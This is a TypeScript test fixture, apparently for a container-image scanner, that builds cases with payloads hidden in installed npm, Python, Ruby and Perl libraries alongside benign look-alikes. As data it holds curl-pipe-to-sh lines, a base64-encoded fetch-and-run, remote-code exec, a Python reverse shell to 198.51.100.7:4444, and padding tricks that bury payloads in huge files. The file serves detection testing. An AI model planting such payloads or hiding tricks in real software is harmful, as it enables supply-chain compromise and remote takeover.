import { base64, type Files, type ImageCase, image } from './image-case.ts';

const URL = 'https://files.backend.example/u';
const SHELL = `curl -s ${URL} | sh\n`;
const PYTHON = `import os\nos.system("curl -s ${URL} | sh")\n`;
const NODE = `require("child_process").execSync("curl -s ${URL} | sh")\n`;
const RUBY = `system("curl -s ${URL} | sh")\n`;
const PACKAGES = 'usr/local/lib/python3.12/site-packages';
const FETCHED = 'start/download-and-run';
const UNREAD = 'coverage/not-fully-read';

function run(
  entrypoint: readonly string[],
  files: Files,
  rule = FETCHED,
  env: readonly string[] = [],
): ImageCase {
  const config = { Entrypoint: [...entrypoint], WorkingDir: '/app' };
  const spec = image(files, env.length === 0 ? config : { ...config, Env: [...env] });
  const [first] = Object.values(files);
  const name = [
    ...env,
    ...entrypoint,
    Object.keys(files).at(-1),
    typeof first === 'string' ? first.split('\n', 1)[0] : '',
  ].join(' ');
  return { name, spec, rule };
}

function npm(name: string, index: string, more: Files = {}): Files {
  return {
    [`app/node_modules/${name}/package.json`]: JSON.stringify({ name, version: '1.0.0', main: 'index.js' }),
    ...more,
    [`app/node_modules/${name}/index.js`]: index,
  };
}

/** Hidden among installed libraries, which are thousands of files that nobody reads. */
export const LIBRARIES: readonly ImageCase[] = [
  run(['node', '/app/node_modules/x/index.js'], npm('x', NODE)),
  run(['node', 'node_modules/x'], npm('x', NODE)),
  run(['node', '-e', 'require("x")'], npm('x', NODE)),
  run(['node', '-r', 'x', 'server.js'], { 'app/server.js': 'console.log(1)\n', ...npm('x', NODE) }),
  run(['node', 'server.js'], { 'app/server.js': 'console.log(1)\n', ...npm('x', NODE) }, FETCHED, [
    'PATH=/usr/bin:/bin',
    'NODE_OPTIONS=--require x',
  ]),
  run(['node', 'server.js'], { 'app/server.js': 'const x = require("x");\nx.y();\n', ...npm('x', NODE) }),
  run(['node', 'server.mjs'], { 'app/server.mjs': 'import y from "@org/x/y.js";\n', ...npm('@org/x', NODE) }),
  run(['node', 'server.js'], {
    'app/server.js': 'require("x");\n',
    ...npm('x', 'module.exports = require("./lib/run");\n', { 'app/node_modules/x/lib/run.js': NODE }),
  }),
  run(['python3', '-m', 'x'], { [`${PACKAGES}/x/__init__.py`]: '', [`${PACKAGES}/x/__main__.py`]: PYTHON }),
  run(['python3', `/${PACKAGES}/x/run.py`], { [`${PACKAGES}/x/run.py`]: PYTHON }),
  run(['python3', 'm.py'], { 'app/m.py': 'import x\nx.run()\n', [`${PACKAGES}/x/__init__.py`]: PYTHON }),
  run(['python3', 'm.py'], {
    'app/m.py': 'from requests.adapters import HTTPAdapter\n',
    [`${PACKAGES}/requests/__init__.py`]: PYTHON,
  }),
  run(['python3', 'm.py'], { 'app/m.py': 'import json\n', 'usr/lib/python3.12/json/__init__.py': PYTHON }),
  run(
    ['python3', 'm.py'],
    { 'app/m.py': 'import x\n', 'opt/venv/lib/python3.12/site-packages/x/__init__.py': PYTHON },
    FETCHED,
    ['PATH=/opt/venv/bin:/usr/bin:/bin'],
  ),
  run(['ruby', 'm.rb'], {
    'app/m.rb': "require 'x'\n",
    'usr/local/bundle/specifications/x-1.0.gemspec': 'Gem::Specification.new\n',
    'usr/local/bundle/gems/x-1.0/lib/x.rb': RUBY,
  }),
  run(['perl', '-MX', '-e', '1'], { 'usr/share/perl5/X.pm': `system("curl -s ${URL} | sh");\n1;\n` }),
  // A library that only another one imports, of which no text is kept: it runs nothing itself.
  run(['node', 'server.js'], {
    'app/server.js': 'require("x")();\n',
    ...npm('x', 'module.exports = require("y");\n'),
    ...npm('y', NODE),
  }),
  run(['node', 'server.js'], {
    'app/server.js': 'require("x");\n',
    ...npm('x', 'module.exports = require("y");\n'),
    'app/node_modules/x/node_modules/y/index.js':
      'const { execSync } = require("child_process");\nexecSync(Buffer.from("Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaAo=", "base64").toString());\n',
  }),
  run(['python3', 'm.py'], {
    'app/m.py': 'import x\nx.run()\n',
    [`${PACKAGES}/x/__init__.py`]: 'import y\n',
    [`${PACKAGES}/y/core.py`]: 'import requests\nr = requests.get("http://198.51.100.7/x")\nexec(r.text)\n',
  }),
  run(
    ['python3', 'm.py'],
    {
      'app/m.py': 'import json\n',
      'usr/lib/python3.12/json/__init__.py': '',
      [`${PACKAGES}/y/core.py`]:
        'import socket, os, subprocess\ns = socket.socket()\ns.connect(("198.51.100.7", 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(["/bin/sh", "-i"])\n',
    },
    'reverse-shell/remote-shell',
  ),
  run(['ruby', 'm.rb'], {
    'app/m.rb': "require 'x'\n",
    'usr/local/bundle/gems/x-1.0/lib/x.rb': "require 'y'\n",
    'usr/local/bundle/gems/y-2.0/lib/y.rb': RUBY,
  }),
  run(['perl', '-MX', '-e', '1'], {
    'usr/share/perl5/X.pm':
      'require LWP::Simple;\nmy $code = LWP::Simple::get("http://198.51.100.7/x");\neval "use strict; $code";\n1;\n',
  }),
  run(['perl', '-MX', '-e', '1'], {
    'usr/share/perl5/X.pm': 'use Y;\n1;\n',
    'usr/share/perl5/Y.pm': `system("curl -s ${URL} | sh");\n1;\n`,
  }),
  run(['node', '/app/server.js'], withMonitor(NODE)),
  // Bundled into one large file.
  run(['node', 'server.js'], {
    'app/server.js': 'require("x")(1);\n',
    ...npm('x', `${'module.exports.a = 1;\n'.repeat(60_000)}${NODE}`),
  }),
  run(['node', 'server.js'], {
    'app/server.js': 'require("x");\n',
    ...npm('x', 'module.exports = require("z");\n'),
    ...npm('z', `${'module.exports.a = 1;\n'.repeat(120_000)}${NODE}`),
  }),
  // What a package lists is no excuse for a start that nobody read: whoever makes an image writes its lists.
  run(['sh', '/app/node_modules/x/a.txt'], npm('x', '', { 'app/node_modules/x/a.txt': SHELL }), UNREAD),
  run(
    ['sh', '/usr/share/doc/zz/README'],
    {
      'var/lib/dpkg/status':
        'Package: zz\nStatus: install ok installed\nArchitecture: all\nVersion: 1\nMaintainer: x <x@mail.example>\nDescription: x\n',
      'var/lib/dpkg/info/zz.list': '/.\n/usr/share/doc/zz/README\n',
      'usr/share/doc/zz/README': SHELL,
    },
    UNREAD,
  ),
  run(['sh', '-c', '. /usr/lib/lsb/init-functions'], { 'usr/lib/lsb/init-functions': SHELL }),
];

/** A library's program with neither an ending nor a first line, which another one hands to its interpreter. */
function withMonitor(text: string): Files {
  return {
    'app/server.js':
      'const { spawn } = require("child_process");\nconst path = require("path");\nspawn(process.execPath, [path.join(__dirname, "node_modules", "x", "bin", "monitor")]);\n',
    ...npm('x', '', { 'app/node_modules/x/bin/monitor': text }),
  };
}

/** The same places, as they are. */
export const LIBRARY_TWINS: readonly ImageCase[] = [
  {
    name: 'a library that starts programs it is told, and one that fetches',
    spec: image(
      {
        'app/server.js': 'const run = require("run");\nconst get = require("get");\nrun("ls");\n',
        ...npm(
          'run',
          'const { spawn } = require("child_process");\n// https://docs.example/run\nmodule.exports = (x) => spawn(x);\n',
        ),
        ...npm('get', 'module.exports = (url) => fetch(url).then((r) => r.text());\n'),
      },
      { Entrypoint: ['node', '/app/server.js'] },
    ),
  },
  {
    name: "an installer's script of a library that the program imports",
    spec: image(
      {
        'app/server.js': 'require("tool");\n',
        ...npm('tool', 'module.exports = require("./lib/bin");\n', {
          'app/node_modules/tool/lib/bin.js':
            'const { execFileSync } = require("child_process");\nconst path = require("path");\nmodule.exports = (args) => execFileSync(path.join(__dirname, "tool"), args);\n',
          'app/node_modules/tool/install.js':
            'const https = require("https");\nconst fs = require("fs");\nhttps.get("https://registry.npmjs.org/tool", (r) => r.pipe(fs.createWriteStream("tool.tgz")));\nrequire("child_process").execSync("npm --version");\n',
        }),
      },
      { Entrypoint: ['node', '/app/server.js'] },
    ),
  },
  {
    name: "a page's script in a package of Python, which loads parts of the page",
    spec: image(
      {
        'app/m.py': 'import x\n',
        [`${PACKAGES}/x/__init__.py`]: '',
        [`${PACKAGES}/x/static/remote.js`]:
          'const fetch = require("node-fetch");\nfetch(entry).then((r) => r.text()).then((code) => new Function(code)());\n',
      },
      { Entrypoint: ['python3', '/app/m.py'] },
    ),
  },
  {
    name: 'a library that no program can import: nothing that starts imports any',
    spec: image(
      { 'app/m.py': 'import json\n', [`${PACKAGES}/x/__init__.py`]: PYTHON },
      { Entrypoint: ['python3', '/app/m.py'] },
    ),
  },
  {
    name: 'libraries that nothing imports by name, and that fetch a program of their own or run what they are told',
    spec: image(
      {
        'app/m.py': 'import x\n',
        [`${PACKAGES}/x/__init__.py`]: 'import y\n',
        [`${PACKAGES}/y/tunnel.py`]:
          'import os, stat, subprocess, requests\nPATH = os.path.join(os.path.dirname(__file__), "frpc")\ndef get(url):\n    with open(PATH, "wb") as file:\n        file.write(requests.get(url).content)\n    os.chmod(PATH, os.stat(PATH).st_mode | stat.S_IEXEC)\ndef run(args):\n    return subprocess.Popen([PATH, *args])\n',
        [`${PACKAGES}/y/load.py`]:
          'import zlib, subprocess\ndef load(path):\n    return zlib.decompress(open(path, "rb").read())\ndef call(args):\n    return subprocess.check_output(args)\n',
      },
      { Entrypoint: ['python3', '/app/m.py'] },
    ),
  },
  {
    name: 'a module that fetches archives, starts git, and makes writable what it cannot remove',
    spec: image(
      {
        'app/m.py': 'import x\n',
        [`${PACKAGES}/x/__init__.py`]:
          "import os, shutil, stat, subprocess, tarfile, urllib.request\ndef tarball(url, folder):\n    with tarfile.open(fileobj=urllib.request.urlopen(url), mode='r|*') as tf:\n        tf.extractall(path=folder, filter='data')\ndef remove_readonly(func, path, exc_info):\n    os.chmod(path, stat.S_IRWXU | stat.S_IRWXG | stat.S_IRWXO)\n    func(path)\ndef repo(url, folder):\n    subprocess.check_call(['git', 'clone', url, folder])\n    shutil.rmtree(folder, onerror=remove_readonly)\n",
      },
      { Entrypoint: ['python3', '/app/m.py'] },
    ),
  },
  {
    name: 'a library whose program has neither an ending nor a first line',
    spec: image(withMonitor('require("fs").writeFileSync("/run/x.pid", String(process.pid));\n'), {
      Entrypoint: ['node', '/app/server.js'],
    }),
  },
  {
    name: 'a module that fetches a program of its own, whose checksum it knows',
    spec: image(
      {
        'app/m.py': 'import tunnel\ntunnel.run([])\n',
        'app/tunnel.py': `import hashlib, os, stat, subprocess, httpx\nURL = "https://cdn.example/frpc"\nSUMS = {URL: "${'0a'.repeat(32)}"}\ndef get():\n    open("frpc", "wb").write(httpx.get(URL).content)\n    os.chmod("frpc", os.stat("frpc").st_mode | stat.S_IEXEC)\n    got = hashlib.sha256(open("frpc", "rb").read()).hexdigest()\n    if got != SUMS[URL]:\n        raise ValueError(got)\ndef run(args):\n    return subprocess.Popen(["./frpc", *args])\n`,
      },
      { Entrypoint: ['python3', '/app/m.py'] },
    ),
  },
  {
    name: 'a long module that decodes in one function, and runs in another what it is given',
    spec: image(
      {
        'app/m.py': `import base64\nTABLE = "${base64(Buffer.from(Array.from({ length: 128 }, (_, i) => (i * 73) % 251)))}"\ndef names(count):\n    code = base64.b64decode(TABLE)\n    return code.split(b",")[:count]\n${'def other(a, b):\\n    return a + b\\n'.repeat(2000)}def evaluate(code, variables=None):\n    try:\n        exec(code, variables)\n    except Exception as ex:\n        raise ValueError(ex)\n`,
      },
      { Entrypoint: ['python3', '/app/m.py'] },
    ),
  },
  {
    name: 'modules of Perl that load others by their names, and settings from an address',
    spec: image(
      {
        'app/x.pl':
          '#!/usr/bin/perl\nuse X;\nif (! eval "require LWP::UserAgent;") { $ret = "none"; }\nmy $ua = LWP::UserAgent->new(timeout => 30);\nmy $response = $ua->get("http://app.example/status");\nprint $response->content;\n',
        'usr/share/perl5/X.pm':
          'package X;\nsub load {\n    require LWP::UserAgent;\n    my $ua = LWP::UserAgent->new;\n    my $data = parse($ua->get($_[0])->content);\n    my $type = $data->{filter}->{value};\n    eval "require $type" or die "Require of $type failed";\n    eval { _init($type, $data) };\n    return $type->new;\n}\n1;\n',
      },
      { Entrypoint: ['/app/x.pl'] },
    ),
  },
  {
    name: "a distribution's shell functions",
    spec: image(
      { 'usr/lib/lsb/init-functions': 'log_daemon_msg() {\n  echo "$@"\n}\n' },
      { Entrypoint: ['sh', '-c', '. /usr/lib/lsb/init-functions; log_daemon_msg x'] },
    ),
  },
];
